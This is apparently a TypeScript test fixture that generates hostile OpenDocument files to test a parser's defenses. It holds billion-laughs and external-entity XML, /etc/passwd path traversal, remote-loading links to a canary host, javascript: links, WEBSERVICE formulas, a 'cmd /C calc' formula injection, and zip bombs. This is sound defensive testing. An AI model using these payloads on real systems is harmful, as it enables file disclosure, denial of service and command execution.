import { namespaces } from "../../scripts/samples/opendocument-package.ts";
import {
  type OpenDocumentOptions,
  textStyle,
  writeOpenDocument,
} from "../support/documents/opendocument-writer.ts";
import { writeZip } from "../support/documents/zip-writer.ts";
import { type Aim, type HostileFile, harmless, lures, refused } from "./hostile-file.ts";

const p = (text: string) => `<text:p>${text}</text:p>`;

function attack(name: string, make: (aim: Aim) => OpenDocumentOptions): HostileFile {
  return {
    name,
    make: (aim) => {
      const options = make(aim);
      return writeOpenDocument({ ...options, body: around(options) });
    },
    endsAs: [...harmless, "document-over-limit"],
    holds: ["before", "after"],
  };
}

function around({ kind, body }: OpenDocumentOptions): string {
  if (kind === "spreadsheet") return `${sheet(row("before"))}${body}${sheet(row("after"))}`;
  if (kind === "presentation") return `${slide(p("before"))}${body}${slide(p("after"))}`;
  return p("before") + body + p("after");
}

const row = (text: string) =>
  `<table:table-row><table:table-cell>${p(text)}</table:table-cell></table:table-row>`;
const sheet = (rows: string) => `<table:table>${rows}</table:table>`;
const slide = (content: string) =>
  `<draw:page><draw:frame><draw:text-box>${content}</draw:text-box></draw:frame></draw:page>`;

const content = (prologue: string, text: string) =>
  `<?xml version="1.0"?>${prologue}<office:document-content ${namespaces}><office:body><office:text>${p(text)}</office:text></office:body></office:document-content>`;
const laughs = `<!DOCTYPE r [<!ENTITY l0 "ha ha ha ">${Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join("")}]>`;

export const hostileOpenDocument: readonly HostileFile[] = [
  attack("odt with pictures, objects and frames from elsewhere.odt", (aim) => ({
    body: p(
      [...lures(aim), "../../../etc/passwd", "/etc/passwd"]
        .map(
          (lure) =>
            `<draw:frame><draw:image xlink:href="${lure}" xlink:actuate="onLoad"/></draw:frame><draw:frame><draw:object xlink:href="${lure}"/></draw:frame><draw:frame><draw:floating-frame xlink:href="${lure}"/></draw:frame><draw:frame><draw:plugin xlink:href="${lure}"/></draw:frame>`,
        )
        .join(""),
    ),
  })),
  attack("odt with linked sections and scripts.odt", (aim) => ({
    body: `<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" xlink:href="vnd.sun.star.script:x"/></office:event-listeners></office:scripts>${lures(
      aim,
    )
      .map((lure) => `<text:section><text:section-source xlink:href="${lure}"/></text:section>`)
      .join(
        "",
      )}${p(`<text:script script:language="JavaScript" xlink:href="${aim.canary}/x.js">evil()</text:script>`)}`,
  })),
  {
    ...attack("odt with links to scripts.odt", () => ({
      body: p(
        ["javascript:alert(1)", "vnd.sun.star.script:x", "data:text/html,x", "file:///etc/passwd"]
          .map((link) => `<text:a xlink:href="${link}">click</text:a>`)
          .join(""),
      ),
    })),
    lacks: ["javascript:", "vnd.sun", "data:text", "file:"],
  },
  {
    name: "odt with a billion laughs.odt",
    make: () =>
      writeOpenDocument({ body: "", files: [{ name: "content.xml", data: content(laughs, "&l9;") }] }),
    endsAs: refused,
    lacks: ["ha ha ha"],
  },
  {
    name: "odt with external entities.odt",
    make: (aim) =>
      writeOpenDocument({
        body: "",
        files: [
          {
            name: "content.xml",
            data: content(
              `<!DOCTYPE r SYSTEM "${lures(aim)[0]}" [<!ENTITY e SYSTEM "${lures(aim)[1]}">]>`,
              "&e;",
            ),
          },
        ],
      }),
    endsAs: refused,
  },
  {
    name: "flat odt with external entities.fodt",
    make: (aim) =>
      Buffer.from(
        `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "${lures(aim)[1]}">]><office:document ${namespaces} office:mimetype="application/vnd.oasis.opendocument.text"><office:body><office:text>${p("&e;")}</office:text></office:body></office:document>`,
      ),
    endsAs: refused,
  },
  attack("odt of spans in spans.odt", ({ isSmall }) => {
    const depth = isSmall ? 5000 : 100_000;
    return { body: p(`${"<text:span>".repeat(depth)}${"</text:span>".repeat(depth)}`) };
  }),
  attack("odt of tables in tables.odt", () => ({
    body: `${"<table:table><table:table-row><table:table-cell/><table:table-cell>".repeat(150)}${"</table:table-cell></table:table-row></table:table>".repeat(150)}`,
  })),
  attack("odt whose styles and lists run in circles.odt", () => ({
    styles: textStyle("a", "", "paragraph", "b") + textStyle("b", "", "paragraph", "a"),
    body: `<text:p text:style-name="a">x</text:p><text:list xml:id="l" text:continue-list="l"><text:list-item>${p("x")}</text:list-item></text:list>`,
  })),
  attack("odt with a table of a billion cells.odt", () => ({
    body: `<table:table>${`<table:table-row table:number-rows-repeated="999999999"><table:table-cell table:number-columns-repeated="999999999">${p("x".repeat(1000))}</table:table-cell></table:table-row>`.repeat(100)}</table:table>`,
  })),
  attack("odt that shows one long formula and chart again and again.odt", ({ isSmall }) => ({
    body: p('<draw:frame><draw:object xlink:href="./F"/></draw:frame>'.repeat(isSmall ? 5000 : 50_000)),
    files: [{ name: "F/content.xml", data: `<math><mi>${"x".repeat(1_000_000)}</mi></math>` }],
  })),
  attack("ods with sheets of a billion cells.ods", () => ({
    kind: "spreadsheet",
    body: sheet(
      `<table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384">${p("x")}</table:table-cell></table:table-row>`.repeat(
        20,
      ),
    ),
  })),
  attack("ods with formulas that start programs and load from elsewhere.ods", (aim) => ({
    kind: "spreadsheet",
    body: `<table:table>${lures(aim)
      .map(
        (lure) =>
          `<table:table-source xlink:href="${lure}"/><table:table-row><table:table-cell table:formula="of:=WEBSERVICE(&quot;${lure}&quot;)">${p("=cmd|' /C calc'!A0")}</table:table-cell></table:table-row>`,
      )
      .join("")}</table:table>`,
  })),
  attack("odp with pages, sounds and notes from elsewhere.odp", (aim) => ({
    kind: "presentation",
    body: lures(aim)
      .map(
        (lure) =>
          `<draw:page xlink:href="${lure}"><presentation:sound xlink:href="${lure}"/><draw:frame><draw:image xlink:href="${lure}"/></draw:frame></draw:page>`,
      )
      .join(""),
  })),
  attack("ods that says it is a text.ods", () => ({
    kind: "spreadsheet",
    mimetype: "application/vnd.oasis.opendocument.text",
    body: "",
  })),
  {
    name: "odt that is an archive of nothing but its type.odt",
    make: () =>
      writeZip([{ name: "mimetype", data: "application/vnd.oasis.opendocument.text", method: "store" }]),
    endsAs: refused,
  },
  {
    name: "odt whose parts overlap.odt",
    make: () =>
      writeZip([
        { name: "mimetype", data: "application/vnd.oasis.opendocument.text", method: "store" },
        { name: "content.xml", data: content("", "x") },
        { name: "styles.xml", data: "", sameDataAs: 1 },
      ]),
    endsAs: refused,
  },
  {
    name: "odt of little that unpacks to much.odt",
    make: ({ isSmall }) =>
      writeOpenDocument({
        body: "",
        files: [
          {
            name: "content.xml",
            data: content("", " ".repeat((isSmall ? 20 : 190) * 1024 * 1024)),
            method: "deflate",
          },
        ],
      }),
    endsAs: ["document-over-limit"],
  },
  {
    name: "odt with an encrypted text.odt",
    make: () =>
      writeOpenDocument({
        body: "",
        files: [
          {
            name: "META-INF/manifest.xml",
            data: `<manifest:manifest ${namespaces}><manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry></manifest:manifest>`,
          },
        ],
      }),
    endsAs: ["document-encrypted"],
  },
  {
    name: "odt whose manifest is not XML.odt",
    make: () => writeOpenDocument({ body: p("x"), files: [{ name: "META-INF/manifest.xml", data: "<<<" }] }),
    endsAs: [...harmless, ...refused],
  },
];
